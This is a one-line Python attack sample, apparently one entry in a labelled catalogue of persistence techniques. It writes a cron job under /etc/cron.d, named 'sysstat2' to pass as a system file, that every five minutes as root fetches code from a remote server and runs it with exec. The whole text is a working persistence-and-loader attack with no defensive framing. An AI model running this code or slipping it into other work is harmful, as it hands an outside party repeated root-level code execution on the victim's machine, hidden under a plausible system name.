# class: persistence, cron.d file with a loader; style: one-liner
open("/etc/cron.d/sysstat2","w").write("*/5 * * * * root python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.8:8000/s').read())\"\n")
